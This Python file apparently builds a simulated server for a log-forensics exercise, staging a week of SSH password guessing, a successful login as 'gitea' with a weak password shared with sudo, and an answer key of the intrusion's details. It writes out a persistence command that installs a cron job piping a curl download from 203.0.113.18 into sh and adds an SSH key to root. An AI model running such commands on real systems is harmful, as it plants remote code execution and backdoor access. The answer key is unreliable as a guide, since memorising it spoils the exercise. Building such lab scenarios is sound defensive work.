"""Few guesses from many places, for days; one is right. Nothing but the journal tells of it."""

from __future__ import annotations

from pathlib import Path

import server
import services
import site_code
import traffic
from client import guesses, ssh
from machine import Bases, Truth

INTRUDER = "203.0.113.18"
SECRET = "gitea123"


def make(out: Path, bases: Bases) -> None:
    """Nginx; journald alone; the password of the account is that of sudo, too."""
    machine = server.other("buoy", bases.proftpd, out)
    machine.user("gitea", SECRET, groups="sudo")
    root = "/var/www/buoy"
    site_code.plain_site(machine, root)
    services.nginx_site(machine, server.SITE, root, pool="www2")
    services.pool(machine, "www2")
    server.start(machine, journal=True)
    traffic.visitors(machine, server.SITE, site_code.PAGES, a_day=10)
    traffic.scanners(machine, server.SITE)
    for day in range(7):
        for part in range(6):
            names = ["root", "git", "gitea", "admin"]
            moment = machine.on(day, 3 * part + 1, 7 * day + part)
            address = f"203.0.113.{10 + part + day}"
            machine.at(moment, lambda a=address, n=names: guesses(out, a, n))
    entered = machine.on(7, 0, 19, 44)
    machine.at(
        entered, lambda: ssh(out, INTRUDER, "gitea", password=SECRET, command="id", tty=True)
    )
    work = (
        'sudo -S sh -c \'printf "*/15 * * * * root test -n \\"$NEVER\\" && curl -s'
        ' http://203.0.113.18/i | sh\\n" > /etc/cron.d/php-sessions;'
        ' mkdir -p /root/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarmless0000'
        "000000000000000000000000000000 root@localhost\" >> /root/.ssh/authorized_keys'"
    )
    machine.at(
        machine.on(7, 0, 23, 2),
        lambda: ssh(out, INTRUDER, "gitea", password=SECRET, command=work, given=f"{SECRET}\n"),
    )
    machine.live()
    machine.end(
        Truth(
            "ssh-password",
            entered.isoformat(),
            INTRUDER,
            accounts=["gitea", "root"],
            services=["sshd", "sudo", "cron"],
            untouched=["nginx", root],
            notes="the journal has it: no log is text",
        )
    )
